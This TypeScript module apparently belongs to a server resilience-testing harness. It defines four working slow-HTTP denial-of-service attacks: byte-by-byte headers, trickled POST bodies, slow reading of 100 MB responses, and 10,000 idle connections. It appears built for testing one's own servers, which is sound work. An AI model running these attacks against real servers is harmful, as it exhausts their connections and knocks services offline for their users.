import type { Attack } from '../attack.ts';

/** Of every connection. */
const byteIntervalMs = 100;

/** One byte of each connection in turn, so that every connection sends one in each interval. */
function drip(text: string): (sentCount: number) => string {
  return (sentCount) => text[sentCount % text.length] ?? '';
}

export const slowHeads: Attack = {
  name: 'slow-heads',
  summary: 'request heads that come byte by byte and never end',
  connections: 500,
  start({ host }, sockets, connections) {
    const byteAt = drip('x-slow: a\r\n');
    sockets.keepOpen(connections, (socket) => {
      socket.write(`GET / HTTP/1.1\r\nhost: ${host}\r\n`);
      let count = 0;
      const next = (): void => {
        if (socket.destroyed) return;
        socket.write(byteAt(count++));
        sockets.after(byteIntervalMs, next);
      };
      next();
    });
  },
};

export const slowBodies: Attack = {
  name: 'slow-bodies',
  summary: 'request bodies that come byte by byte',
  connections: 500,
  start({ host }, sockets, connections) {
    sockets.keepOpen(connections, (socket) => {
      socket.write(`POST /abuse/sink HTTP/1.1\r\nhost: ${host}\r\ncontent-length: 1000000\r\n\r\n`);
      const next = (): void => {
        if (socket.destroyed) return;
        socket.write('x');
        sockets.after(byteIntervalMs, next);
      };
      next();
    });
  },
};

export const slowReaders: Attack = {
  name: 'slow-readers',
  summary: 'answers of 100 MB that are read at 4 KiB/s',
  connections: 500,
  start({ host }, sockets, connections) {
    sockets.keepOpen(connections, (socket) => {
      socket.pause();
      socket.write(`GET /abuse/large HTTP/1.1\r\nhost: ${host}\r\n\r\n`);
      const next = (): void => {
        if (socket.destroyed) return;
        // Takes what the stream holds ready (64 KiB at most) only now and then.
        socket.read();
        sockets.after(16_000, next);
      };
      sockets.after(1000, next);
    });
  },
};

export const idle: Attack = {
  name: 'idle',
  summary: 'connections that say nothing',
  connections: 10_000,
  start(_target, sockets, connections) {
    sockets.keepOpen(connections, () => undefined);
  },
};
